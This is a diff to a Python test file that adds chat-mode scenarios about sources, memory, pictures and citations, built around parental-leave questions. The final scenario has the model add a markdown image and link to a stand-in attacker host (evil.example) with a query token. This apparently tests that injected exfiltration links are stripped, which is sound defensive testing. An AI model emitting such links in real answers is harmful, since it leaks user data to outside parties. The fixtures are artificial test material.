@@ -1,8 +1,9 @@
 """Scenarios of Chat mode, which looks up first and answers then."""
 
+from backend.schemas.answer import SourceKindName
 from tests.support.chat_turns import GENERAL, NOT_SAID, write_plan
 from tests.support.mode_scenarios.contract_lines import Line
-from tests.support.mode_scenarios.scenario import Scenario, Surface, Switch
+from tests.support.mode_scenarios.scenario import EarlierTurn, Scenario, Surface, Switch
 
 API, TERMINAL, PAGE = Surface.API, Surface.TERMINAL, Surface.PAGE
 BOTH: dict[Switch, bool] = {"web": True}
@@ -131,4 +132,20 @@ _SOURCES = (
     _chat("a document of others", TERMINAL, {Line.READERS}, "How long is parental leave of directors?", switches={}, plan=write_plan(knowledge="leave of directors"),
           kinds=("document",), says=(OURS,), not_told=("40 weeks",)),
 )  # fmt: skip
-CHAT_SCENARIOS = (*_SIDES, *_PLANS, *_SOURCES)
+_MEMORY = "My parental leave begins in May."
+_EVERY_KIND: tuple[SourceKindName, ...] = ("file", "url", "document", "memory", "image")
+_IN_CONVERSATIONS = (
+    _chat("a file before the web and knowledge", API, {Line.FILES_FIRST, Line.JOINED_REFERENCES}, LEAVE, files=("plan.md",), plan=write_plan(LAW, OWN),
+          sent=(LAW, LEAVE), kinds=("file", "url", "document"), references=("file", "url", "document"), says=("one year [1]", "[[2]](https://law.example/dk)", "14 weeks [[3]]")),
+    _chat("a file, the web, knowledge, a memory and a picture", API, {Line.FILES_FIRST, Line.MEMORY, Line.PICTURES}, LEAVE, files=("plan.md", "leave.png"), sees_pictures=True,
+          memory=_MEMORY, plan=write_plan(LAW, OWN), sent=(LAW, LEAVE), kinds=_EVERY_KIND, references=_EVERY_KIND, pictures=1, says=("one year [1]", "begins in May [4]")),
+    _chat("a picture to a model that does not see", API, {Line.PICTURES}, LEAVE, files=("quay.png",), plan=write_plan(LAW, OWN), sent=(LAW, LEAVE), kinds=("url", "document"),
+          references=("url", "document"), shown=("quay.png was not looked at",), not_told=("Picture 1 of those",)),
+    _chat("a picture where nothing is searched", API, {Line.PICTURES}, LEAVE, files=("leave.png",), switches={"knowledge": False}, sees_pictures=True, kinds=("image",),
+          references=("image",), pictures=1, says=("[1]",)),
+    _chat("the answer before", API, {Line.LIST_NOT_IN_HISTORY, Line.LIST_OF_MODEL_LEFT_OUT}, LEAVE, earlier=EarlierTurn(LEAVE), plan=write_plan(LAW, OWN), 
+          kinds=("url", "document"), references=("url", "document"), says=(DANISH, OURS), told=(f"{DANISH}.",)),
+    _chat("a picture and a link that the model adds", API, {Line.LIST_OF_MODEL_LEFT_OUT, Line.PAGES_ARE_DATA}, LEAVE, switches={}, plan=write_plan(knowledge=OWN), kinds=("document",),
+          references=("document",), adds=" ![a](https://evil.example/a.png?q=ZX-4417) [more](https://evil.example/?q=ZX-4417)", says=(OURS,)),
+)  # fmt: skip
+CHAT_SCENARIOS = (*_SIDES, *_PLANS, *_SOURCES, *_IN_CONVERSATIONS)
